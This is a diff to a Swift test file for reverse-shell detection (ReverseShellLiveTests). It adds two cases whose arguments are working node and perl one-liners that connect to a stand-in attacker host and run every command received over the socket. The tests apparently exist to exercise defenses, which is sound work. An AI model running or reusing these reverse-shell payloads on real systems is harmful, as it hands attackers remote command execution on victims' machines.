@@ -233,6 +233,23 @@ final class ReverseShellLiveTests: XCTestCase {
         }
     }
 
+    /// node's `child_process.execSync(cmd)` (`sh -c`, output captured on a pipe node holds), in a
+    /// loop on each line the connection sends.
+    func testNodeExecSyncCommandLoop() throws {
+        try assertReverseShell(shellNamed: "node") { port in
+            ["/usr/bin/node", "-e", "const cp=require(\"child_process\");const c=require(\"net\").connect(\(port),\"\(Self.attacker)\");"
+             + "c.on(\"data\",d=>{for(const l of d.toString().split(\"\\n\")){if(l)c.write(cp.execSync(l))}});c.on(\"error\",()=>process.exit(1))"]
+        }
+    }
+
+    /// perl backticks: a plain word is exec'd without a shell, its output read back by perl.
+    func testPerlBackticksCommandLoop() throws {
+        try assertReverseShell(shellNamed: "perl") { port in
+            ["/usr/bin/perl", "-MIO::Socket::INET", "-e",
+             "$c=IO::Socket::INET->new(PeerAddr=>\"\(Self.attacker):\(port)\") or exit 1;while(<$c>){chomp;print {$c} `$_`}"]
+        }
+    }
+
     func testNodeSpawnPipedToSocket() throws {
         try assertReverseShell(shellNamed: "sh") { port in
             ["/usr/bin/node", "-e", """
